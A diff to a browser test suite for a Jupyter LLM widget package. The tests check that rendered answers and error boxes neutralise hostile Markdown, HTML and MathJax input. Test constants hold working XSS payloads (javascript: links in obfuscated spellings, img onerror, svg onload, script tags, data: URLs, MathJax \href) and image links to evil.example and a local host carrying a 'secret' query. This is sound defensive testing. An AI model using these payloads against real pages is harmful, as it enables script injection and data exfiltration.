@@ -411,6 +411,118 @@ def test_nbconvert_html_shows_the_card_offline(tmp_path: Path) -> None:
         assert "Loading widget" not in body
 
 
+#: An answer and a provider error message that try every way out: math carrying a link and a
+#: style, images, javascript: links in several spellings, raw HTML, a box-ending \\r\\r.
+HOSTILE_ANSWER = (
+    "Math: $\\href{javascript:window.__nbllm_xss=1}{mathlink}$ "
+    "$\\style{background:url(nbllm-leak-style.png)}{styled}$ "
+    "$$\\class{mathjax_process}{\\unicode{x41}}$$ \\(\\url{javascript:window.__nbllm_xss=2}\\)\n\n"
+    "![leak](http://127.0.0.1:9/nbllm-leak-image.png) <img src=http://127.0.0.1:9/nbllm-leak-raw.png>"
+    " [a](javascript:window.__nbllm_xss=3) [b](jav&#97;script:window.__nbllm_xss=4)"
+    " <javascript:window.__nbllm_xss=5>\n\n```python\nif a < b:\n    pass\n```\n"
+)
+HOSTILE_ERROR = (
+    "upstream said\r\r![e](http://127.0.0.1:9/nbllm-leak-error.png)\n\n</div>"
+    "<img src=http://127.0.0.1:9/nbllm-leak-error2.png onerror=window.__nbllm_xss=6>"
+    "[x](javascript:window.__nbllm_xss=7) $\\href{javascript:window.__nbllm_xss=8}{errmath}$"
+)
+
+
+def test_nbconvert_html_typesets_no_math_and_fetches_nothing_from_an_answer(
+    tmp_path: Path,
+) -> None:
+    """A final output and an error box holding HOSTILE_ANSWER / HOSTILE_ERROR, exported by
+    nbconvert and opened in Chromium with MathJax 2 (local files, without its Safe extension:
+    the worst case). A Markdown cell's math is typeset (MathJax ran), and so is the same
+    sanitized answer shown without the wrapper (what the wrapper stops: a javascript: link out
+    of \\href); nothing in our outputs is typeset, no javascript: link exists, and no request
+    leaves the page but nbconvert's own template's."""
+    import jupyter_server_mathjax
+    import nbformat
+    from nbconvert import HTMLExporter
+
+    from notebook_llm.errors import ErrorCode, LlmError
+    from notebook_llm.widgets.final import FinalView
+    from notebook_llm.widgets.render import ErrorBox
+    from notebook_llm.widgets.safe_html import markdown_html
+
+    _browser_or_fail()
+    mathjax = Path(jupyter_server_mathjax.__file__).parent / "static" / "MathJax.js"
+    box = ErrorBox(LlmError(HOSTILE_ERROR, ErrorCode.INVALID_REQUEST, provider="openai"))
+    final = FinalView(HOSTILE_ANSWER, error=box, footer="openai:m · error")
+    nb = nbformat.v4.new_notebook()
+    code = nbformat.v4.new_code_cell("%%llm\nhi")
+    code.outputs = [
+        nbformat.v4.new_output("display_data", data=final._repr_mimebundle_()),
+        nbformat.v4.new_output("display_data", data=box._repr_mimebundle_()),
+    ]
+    control = nbformat.v4.new_code_cell("control")
+    unwrapped = markdown_html(HOSTILE_ANSWER.replace("nbllm-leak", "nbllm-control"))
+    control.outputs = [  # sanitized, but not wrapped: MathJax reads it
+        nbformat.v4.new_output("display_data", data={"text/html": unwrapped})
+    ]
+    nb.cells = [nbformat.v4.new_markdown_cell("Control: $x^2$"), code, control]
+    exporter = HTMLExporter()
+    exporter.mathjax_url = mathjax.as_uri() + "?config=TeX-AMS-MML_HTMLorMML-full"
+    html_path = tmp_path / "hostile.html"
+    html_path.write_text(exporter.from_notebook_node(nb)[0], encoding="utf-8")
+    with _chromium_page() as page:
+        requests: list[str] = []
+        page.on("request", lambda req: requests.append(req.url))
+        page.route(
+            "**/*",
+            lambda route: (
+                route.continue_() if route.request.url.startswith("file:") else route.abort()
+            ),
+        )
+        page.goto(html_path.as_uri())
+        # MathJax typesets the page in document order: once the control (the last cell) is
+        # done, it has been over our outputs too.
+        page.wait_for_function(
+            "() => document.querySelectorAll('.jp-MarkdownCell .MathJax').length > 0 &&"
+            " document.querySelectorAll('.jp-CodeCell')[1].querySelectorAll('.MathJax').length"
+            " >= 3",
+            timeout=30_000,
+        )
+        page.wait_for_timeout(500)
+        state = page.evaluate(
+            """() => {
+              const ours = [...document.querySelectorAll(".notebook-llm-final, .notebook-llm-output")];
+              const links = (root) => [...root.querySelectorAll("a[href]")].filter((a) =>
+                !["http:", "https:", "mailto:", "file:"].includes(a.protocol));
+              const control = document.querySelectorAll(".jp-CodeCell")[1];
+              return {
+                ours: ours.length,
+                typeset: ours.map((o) => o.querySelectorAll(".MathJax, script").length),
+                badLinks: ours.map((o) => links(o).length),
+                images: ours.map((o) => o.querySelectorAll("img, [style*=url]").length),
+                text: ours.map((o) => o.innerText).join(" "),
+                controlTypeset: control.querySelectorAll(".MathJax").length,
+                controlStyleUrls: control.querySelectorAll("[style*='url(']").length,
+                controlJsLinks: links(control).length,
+                xss: window.__nbllm_xss ?? null,
+              };
+            }"""
+        )
+    assert state["ours"] == 2
+    assert state["typeset"] == [0, 0], state
+    assert state["badLinks"] == [0, 0], state
+    assert state["images"] == [0, 0], state
+    assert "$\\href{javascript:window.__nbllm_xss=1}{mathlink}$" in state["text"]  # as source
+    assert "$\\href{javascript:window.__nbllm_xss=8}{errmath}$" in state["text"]
+    assert "image: leak" in state["text"]
+    # Without the wrapper MathJax would have typeset the answer: a javascript: link out of
+    # \\href, and a CSS url() (a request, once the browser paints it) out of \\style.
+    assert state["controlTypeset"] >= 3, state
+    assert state["controlJsLinks"] >= 1, state
+    assert state["controlStyleUrls"] >= 1, state
+    assert state["xss"] is None
+    outside = [u for u in requests if not u.startswith("file:") and "nbllm-control" not in u]
+    assert not [u for u in outside if "nbllm" in u or "127.0.0.1" in u], outside
+    # what is left is the template's own require.js (refused here), nothing of ours
+    assert all(u.endswith("/require.min.js") for u in outside), outside
+
+
 def test_quickstart_renders_live_widgets_in_jupyterlab(lab: str) -> None:
     _browser_or_fail()
     with _chromium_page() as page:
@@ -488,53 +600,119 @@ def test_stop_ends_the_stream_in_jupyterlab(lab: str, how: str) -> None:
         assert "[stopped]" in running.locator(".jp-Cell-outputArea").inner_text()
 
 
-def test_escaped_answers_render_no_element_in_the_vendored_marked() -> None:
-    """What ``render.escape_raw_html`` makes of each Markdown trick, rendered by the marked
-    that JupyterLab and the live pane use, in Chromium: no image, script or event handler, and
-    no request to the answer's URLs."""
+#: live_view.js driven by a stand-in anywidget model, fed one Markdown block per case: resolves
+#: to what each case left in the page (elements that run or fetch, links that are not http,
+#: https, mailto or relative, and the image links).
+_PANE_JS = """async ([viewSource, markedSource, purifySource, cases]) => {
+  const url = URL.createObjectURL(new Blob([viewSource], {type: "text/javascript"}));
+  const view = (await import(url)).default;
+  const handlers = [];
+  const lib = { get: (k) => ({ source: markedSource, purify: purifySource })[k] };
+  const model = {
+    get: (k) => ({ key: "pane-1", lib: "lib-1", label: "mock:echo" })[k],
+    on: (name, cb) => handlers.push(cb),
+    widget_manager: { get_model: async () => lib },
+  };
+  view.initialize({ model });
+  const el = document.createElement("div");
+  document.body.append(el);
+  view.render({ model, el });
+  for (let i = 0; i < 100 && !el.querySelector(".notebook-llm-md"); i++) {
+    for (const cb of handlers) cb([["+", "probe", "md"], ["probe", "*x*"]]);
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  for (let i = 0; i < 100 && !el.querySelector(".notebook-llm-md em"); i++) {
+    await new Promise((r) => setTimeout(r, 50));  // marked and DOMPurify are loaded
+  }
+  const found = {};
+  let n = 0;
+  for (const [name, md] of Object.entries(cases)) {
+    const id = "case-" + n++;
+    for (const cb of handlers) cb([["+", id, "md"], [id, md]]);
+    const node = [...el.querySelectorAll(".notebook-llm-md")].pop();
+    const scheme = (a) => new URL(a.getAttribute("href"), "https://relative.invalid/").protocol;
+    found[name] = {
+      elements: node.querySelectorAll(
+        "img, script, iframe, svg, math, style, form, object, embed, [onerror], [onclick], " +
+        "[onload], [style], [src], [srcset]").length,
+      badLinks: [...node.querySelectorAll("a[href]")].map(scheme)
+        .filter((p) => !["http:", "https:", "mailto:"].includes(p)),
+      imageLinks: [...node.querySelectorAll("a")].filter(
+        (a) => a.textContent.startsWith("image: ")).length,
+    };
+  }
+  return { found, xss: window.__nbllm_xss ?? null, html: el.innerHTML.length };
+}"""
+
+#: Markdown for the live pane beyond INERT_TRICKS: link targets in every spelling, images,
+#: raw HTML (which marked hands over as tokens that live_view.js escapes), entities, math.
+PANE_TRICKS = {
+    "raw html": '<img src="x" onerror="window.__nbllm_xss = 1"> <script>window.__nbllm_xss=2</script>',
+    "raw html block": "<div>\n<img src=x onerror=window.__nbllm_xss=3>\n</div>",
+    "svg": "<svg onload=window.__nbllm_xss=4><script>window.__nbllm_xss=5</script></svg>",
+    "javascript link": "[a](javascript:window.__nbllm_xss=6)",
+    "tab in the scheme": "[a](java\tscript:window.__nbllm_xss=7)",
+    "character reference": "[a](jav&#97;script:window.__nbllm_xss=8)",
+    "entity colon": "[a](javascript&colon;window.__nbllm_xss=9)",
+    "percent encoded": "[a](%6Aavascript:window.__nbllm_xss=10)",
+    "leading control": "[a](&#1;javascript:window.__nbllm_xss=11)",
+    "autolink": "<javascript:window.__nbllm_xss=12>",
+    "reference": "[a]\n\n[a]: javascript:window.__nbllm_xss=13",
+    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "data image": "![d](data:image/png;base64,iVBORw0KGgo=)",
+    "data svg image": "![d](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
+    "remote image": "![leak](https://evil.example/pane.png?q=secret)",
+    "image that looks like data": "![probe](d&#1;ata:image/png;x/../../evil.example/p.png)",
+    "reference image": "![r][ref]\n\n[ref]: https://evil.example/ref.png",
+    "image in a link": "[![b](https://evil.example/b.png)](https://ok.example)",
+    "html entities": "&lt;img src=x onerror=window.__nbllm_xss=14&gt; &#60;script&#62;",
+    "math": "$\\href{javascript:window.__nbllm_xss=15}{m}$ $\\style{color:red}{x}$",
+    "nested emphasis": "***[a](javascript:window.__nbllm_xss=16)***" * 50,
+    "table": "| a |\n|---|\n| <img src=x onerror=window.__nbllm_xss=17> [b](javascript:x) |",
+    "task list": "- [x] done\n- [ ] <input type=text autofocus onfocus=window.__nbllm_xss=18>",
+}
+
+
+def test_no_markdown_trick_renders_an_element_in_the_live_pane() -> None:
+    """live_view.js with the vendored marked and DOMPurify, in Chromium, fed each Markdown
+    trick: no element that runs or fetches, no link but http(s)/mailto/relative, every image a
+    link (never loaded), and no request to the answer's URLs."""
     from live_view_support import INERT_TRICKS
 
     from notebook_llm.widgets import render
 
     _browser_or_fail()
-    source = (Path(render.__file__).parent / "static" / "marked.esm.js").read_text()
-    cases = {name: render.escape_raw_html(trick) for name, trick in INERT_TRICKS.items()}
+    static = Path(render.__file__).parent / "static"
+    sources = [
+        (static / name).read_text()
+        for name in ("live_view.js", "marked.esm.js", "dompurify.esm.js")
+    ]
+    cases = {**INERT_TRICKS, **PANE_TRICKS}
     with _chromium_page() as page:
         requests: list[str] = []
         page.on("request", lambda req: requests.append(req.url))
         page.set_content("<html><body></body></html>")
-        found = page.evaluate(
-            """async ([source, cases]) => {
-              const url = URL.createObjectURL(new Blob([source], {type: "text/javascript"}));
-              const { Marked } = await import(url);
-              const marked = new Marked({ gfm: true, breaks: false });
-              const found = {};
-              for (const [name, md] of Object.entries(cases)) {
-                const div = document.createElement("div");
-                div.innerHTML = marked.parse(md);  // as a trusted Markdown output is shown
-                document.body.appendChild(div);
-                const links = [...div.querySelectorAll("a[href]")].filter(
-                  (a) => a.protocol === "javascript:" || a.protocol === "data:");
-                found[name] = div.querySelectorAll("img, script, iframe, [onerror]").length +
-                  links.length;
-              }
-              return found;
-            }""",
-            [source, cases],
-        )
+        result = page.evaluate(_PANE_JS, [*sources, cases])
         page.wait_for_timeout(500)
-    assert found == dict.fromkeys(cases, 0), found
+    found = result["found"]
+    assert result["xss"] is None
+    assert {name: f["elements"] for name, f in found.items()} == dict.fromkeys(cases, 0)
+    assert {name: f["badLinks"] for name, f in found.items()} == {n: [] for n in cases}
+    for name in ("remote image", "image that looks like data", "reference image", "data image"):
+        assert found[name]["imageLinks"] == 1, name
+    assert found["image in a link"]["imageLinks"] >= 1  # the outer link holds it too
     assert not [u for u in requests if "evil.example" in u], requests
+    assert all(u.startswith("blob:") or u == "about:blank" for u in requests), requests
 
 
 #: live_view.js driven by a stand-in anywidget model: the ops it is sent come in as custom
 #: messages; resolves to the arguments text of the first tool card after each batch of ops,
 #: and whether anything of the arguments became an element.
-_CARD_JS = """async ([viewSource, markedSource, batches]) => {
+_CARD_JS = """async ([viewSource, markedSource, purifySource, batches]) => {
   const url = URL.createObjectURL(new Blob([viewSource], {type: "text/javascript"}));
   const view = (await import(url)).default;
   const handlers = [];
-  const lib = { get: () => markedSource };
+  const lib = { get: (k) => ({ source: markedSource, purify: purifySource })[k] };
   const model = {
     get: (k) => ({ key: "pane-1", lib: "lib-1", label: "mock:tools" })[k],
     on: (name, cb) => handlers.push(cb),
@@ -577,7 +755,10 @@ def test_a_tool_cards_streamed_arguments_are_appended_as_text_in_the_browser(
     last_card = max(i for i, op in enumerate(ops) if op[0] == "=")
     batches = [ops[:last_card], ops[last_card:]]  # while the call streams; after its end
     static = Path(render.__file__).parent / "static"
-    sources = [(static / "live_view.js").read_text(), (static / "marked.esm.js").read_text()]
+    sources = [
+        (static / name).read_text()
+        for name in ("live_view.js", "marked.esm.js", "dompurify.esm.js")
+    ]
     with _chromium_page() as page:
         page.set_content("<html><body></body></html>")
         found = page.evaluate(_CARD_JS, [*sources, batches])
@@ -602,6 +783,8 @@ LIVE_MD = (
     "[a link](javascript:window.__nbllm_xss=3)\n\n"
     "![leak](http://127.0.0.1:9/nbllm-leak.png?q=secret)\n\n"
     "![probe](d&#1;ata:image/png;x/../../../nbllm-leak-probe?q=secret)\n\n"
+    "$\\href{javascript:window.__nbllm_xss=4}{mathlink}$ "
+    "$\\style{background:url(http://127.0.0.1:9/nbllm-leak-style.png)}{styled}$\n\n"
     + " ".join(["streaming"] * 120)
 )
 _XSS_JS = """() => ({
@@ -635,7 +818,7 @@ def test_markdown_renders_live_and_raw_html_never_runs(tmp_path: Path, app: str)
     """While the answer streams, the live pane shows it as rendered Markdown (a heading, bold,
     a code block); its raw HTML shows as text and runs nothing, its javascript: link is
     dropped, its image is a link that the browser never fetched; at the end the static
-    Markdown output replaces the pane."""
+    sanitized HTML replaces the pane, with its math not typeset."""
     _browser_or_fail()
     server = _serve(tmp_path, app)
     base = next(server)
@@ -678,11 +861,16 @@ def test_markdown_renders_live_and_raw_html_never_runs(tmp_path: Path, app: str)
             )
             assert "Error displaying widget" not in outputs, outputs[:2000]
             assert page.locator(".notebook-llm-live").count() == 0  # replaced
-            final = running.locator(".jp-RenderedMarkdown")
+            final = running.locator(".notebook-llm-final")
             assert final.locator("h1", has_text="Live title").count() == 1
+            # JupyterLab typesets HTML outputs too: not this one (its math stays source)
+            assert final.locator("mjx-container, .MathJax").count() == 0
+            assert "$\\href{javascript:" in final.inner_text()
+            assert final.locator("a", has_text="mathlink").count() == 0
+            assert final.locator("pre code span").count() > 0  # highlighted
             assert final.locator(".notebook-llm-footer").count() == 1
             assert page.evaluate("() => window.__nbllm_xss ?? null") is None
-            assert final.locator("a", has_text="leak").count() == 1
+            assert final.locator("a", has_text="image: leak").count() == 1
             assert leaked == [], leaked  # neither live nor in the final output
             assert not [e for e in errors if "nbllm" in e or "anywidget" in e], errors
     finally:
